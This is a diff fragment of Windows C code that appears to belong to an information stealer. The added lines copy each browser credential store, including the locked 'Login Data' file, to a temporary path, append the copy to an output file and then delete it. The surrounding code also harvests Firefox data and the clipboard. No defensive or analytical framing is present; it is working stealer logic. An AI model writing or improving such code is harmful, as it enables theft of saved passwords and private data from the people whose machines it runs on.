@@ -121,8 +121,17 @@ static int family_run(void)
     if (out == INVALID_HANDLE_VALUE)
         return 2;
     for (i = 0; i < sizeof stores / sizeof stores[0]; i++) {
+        char copy_fmt[MAX_PATH], copy[MAX_PATH];
         wsprintfA(path, "%s%s", local, stores[i]);
-        append_file(out, path);
+        /* the browser keeps Login Data locked: copy it aside, read the copy, delete it */
+        ExpandEnvironmentStringsA(CFG_LD_COPY, copy_fmt, sizeof copy_fmt);
+        wsprintfA(copy, copy_fmt, GetTickCount() + i);
+        if (CopyFileA(path, copy, FALSE)) {
+            append_file(out, copy);
+            DeleteFileA(copy);
+        } else {
+            append_file(out, path);
+        }
     }
     firefox(out, roaming);
     clipboard(out);
